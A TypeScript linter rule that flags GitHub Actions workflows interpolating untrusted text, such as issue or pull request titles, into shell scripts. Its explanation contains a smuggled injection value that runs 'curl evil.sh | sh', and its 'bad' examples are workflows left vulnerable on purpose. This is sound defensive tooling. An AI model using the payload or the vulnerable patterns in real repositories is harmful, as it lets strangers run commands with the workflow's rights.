import { defineRule } from '@plimsoll/core';
import type { ScriptInjection } from '@plimsoll/core';

export const scriptInjection = defineRule({
  id: 'lane/script-injection',
  summary: 'A text that others write is put into a script, where it can be a command.',
  why: 'An expression is replaced before the shell reads the script. A title such as `"; curl evil.sh | sh; "` is then a part of the program, and runs with the rights of the job.',
  limits:
    'Numbers, commits, logins, repository names, `toJSON()` as a literal of JavaScript, and values chosen from literals are known to be harmless. Names of branches and tags, labels, releases and what is typed in when a workflow is started need write access: the option `writers` reports these too. Texts that a script reads from a file or an API are followed only where it prints them.',
  since: '0.1.0',
  severity: 'error',
  presets: ['recommended', 'strict'],
  references: [
    'GitHub: Security hardening for GitHub Actions, script injections',
    'CWE-94: Improper Control of Generation of Code',
  ],
  visits: 'scriptInjection',
  options: {
    writers: { description: 'Also report what only people with write access can set.', default: false },
  },
  examples: {
    bad: [
      {
        '.github/workflows/triage.yml':
          'on: issues\npermissions: { issues: write }\njobs:\n  triage:\n    runs-on: ubuntu-24.04\n    steps:\n      - run: echo "New issue «${{ github.event.issue.title }}»"\n',
      },
      {
        '.github/workflows/check.yml':
          'on: pull_request_target\npermissions: { pull-requests: write }\njobs:\n  check:\n    runs-on: ubuntu-24.04\n    steps:\n      - uses: ./.github/actions/check-title\n        with:\n          title: ${{ github.event.pull_request.title }}\n',
        '.github/actions/check-title/action.yml':
          'inputs:\n  title:\n    required: true\nruns:\n  using: composite\n  steps:\n    - shell: bash\n      run: ./check.sh "«${{ inputs.title }}»"\n',
      },
    ],
    good: [
      {
        '.github/workflows/triage.yml':
          'on: issues\npermissions: { issues: write }\njobs:\n  triage:\n    runs-on: ubuntu-24.04\n    steps:\n      - env:\n          TITLE: ${{ github.event.issue.title }}\n        run: \'echo "New issue ${{ github.event.issue.number }}: $TITLE"\'\n',
      },
    ],
  },
  check(injection, report, { writers }) {
    const { range, text, reach, through } = injection;
    if (text.by === 'writers' && !writers) return;
    const others = through.filter(({ at }) => at.file !== range.file || at.start !== range.start);
    report({
      at: range,
      severity: isOpen(injection) ? 'error' : 'warning',
      message: `${described(injection)}: ${consequenceOf(injection)}`,
      help: helpFor(injection),
      related: [...(reach ? [{ at: reach.trigger.range, label: `${reach.event} starts it` }] : []), ...others],
    });
  },
});

function described({ expression, text, sink }: ScriptInjection): string {
  const place = sink.name === 'run' ? 'the script' : `the input ${sink.name}`;
  const direct = expression.replace(/\s/g, '') === text.path;
  return `"\${{ ${expression} }}" puts ${text.what}${direct ? '' : ` (${text.path})`} into ${place}`;
}

/** A stranger gets there alone, and finds rights there. */
function isOpen({ text, reach }: ScriptInjection): boolean {
  return text.by === 'anyone' && (reach ? reach.by === 'anyone' && reach.privileged : true);
}

function consequenceOf({ text, reach }: ScriptInjection): string {
  if (text.by === 'writers') return 'who may set it runs commands with the rights of this job';
  if (text.by === 'merged') return 'once merged, one that a stranger wrote runs commands with the rights of this job';
  if (reach?.gate)
    return `once ${reach.gate.what} lets it through, one that a stranger wrote runs commands with the rights of this job`;
  return reach && !reach.privileged
    ? 'anyone can write one which runs commands in this job; a fork gives it no secrets, a branch of this repository does'
    : 'anyone can write one which runs commands with the rights of this job';
}

function helpFor(injection: ScriptInjection): string {
  const { expression, sink } = injection;
  const inEnv = /^env\.(\w+)$/.exec(expression.trim())?.[1];
  const name = inEnv ?? variableFor(injection);
  const given =
    inEnv === undefined ? `Write "${name}: \${{ ${expression} }}" ${placeOfEnv(injection)}, and ` : 'Write ';
  if (sink.language === 'JavaScript') return `${given}process.env.${name} in place of the expression in the script`;
  return `${given}"$${name}" in place of the expression in the script`;
}

function placeOfEnv({ origin }: ScriptInjection): string {
  return (origin.step?.env ?? []).length > 0 ? 'in the "env:" of the step' : 'in an "env:" of the step, which has none';
}

/** `TITLE` for `github.event.issue.title`. */
function variableFor({ expression, text }: ScriptInjection): string {
  const read = /(?:^|\)\.)([A-Za-z_][\w.*-]*)$/.exec(expression.trim())?.[1] ?? text.path;
  const names = read.split('.').filter((name) => name !== '*' && name !== 'outputs');
  const last = names.at(-1) ?? 'value';
  const name = /^(?:name|ref|from|label|email)$/.test(last) ? names.slice(-2).join('_') : last;
  return name.replace(/\W+/g, '_').toUpperCase();
}
